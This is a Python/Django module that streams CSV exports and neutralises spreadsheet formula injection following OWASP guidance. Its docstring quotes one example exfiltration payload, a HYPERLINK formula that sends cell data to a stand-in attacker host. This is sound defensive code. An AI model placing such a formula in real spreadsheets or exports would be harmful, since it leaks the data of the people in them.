"""The one CSV writer of every export: streamed, and safe to open in a spreadsheet.

Callers, texters and web forms put text in the data we export (a caller's name, the words
of a STOP text in the compliance ledger). A spreadsheet runs a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula — ``=HYPERLINK("https://evil.example/?"&A1, "Click")``
sends the sheet's data away —, and some read past a leading tab, carriage return or space
first. So every cell goes through ``csv_cell``, the OWASP way: a cell that would start a
formula gets a leading ``'`` (shown as text, never run), every cell is quoted and quotes in
it doubled, so a comma or semicolon inside a cell cannot start a new cell that is a formula.
Plain numbers (``-5``, ``+12125550142``) stay as they are: no spreadsheet runs those.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterable

from django.http import StreamingHttpResponse

# What a spreadsheet may take as the start of a formula (with their full-width forms, which
# some East Asian spreadsheets read as the ASCII ones).
FORMULA_STARTS = frozenset("=+-@＝＋－＠")
# Cells that start with these are neutralised whatever follows (OWASP lists tab and CR;
# LF for the same reason: some readers strip leading line breaks and then see a formula).
UNSAFE_FIRST = frozenset("\t\r\n")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def csv_cell(value: object) -> str:
    """``value`` as a CSV cell's text that no spreadsheet runs as a formula."""
    if value is None:
        return ""
    text = value if isinstance(value, str) else json.dumps(value, ensure_ascii=False, default=str)
    if not text:
        return text
    if text[0] in UNSAFE_FIRST:
        return "'" + text
    # Leading spaces (and other whitespace) are stripped by some importers before they look.
    if text.lstrip()[:1] in FORMULA_STARTS and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class _Echo:
    """A file that hands back what is written: csv.writer then yields one line at a time."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[object]]) -> Iterable[str]:
    """Each row as one CSV line, every cell neutralised and quoted."""
    writer = csv.writer(_Echo(), quoting=csv.QUOTE_ALL)
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_response(rows: Iterable[Iterable[object]], *, filename: str) -> StreamingHttpResponse:
    """Stream ``rows`` (the header first) as a CSV download named ``filename``.

    ``rows`` may be a generator: nothing is read before the server starts sending, so an
    export of years of data never sits in memory.
    """
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
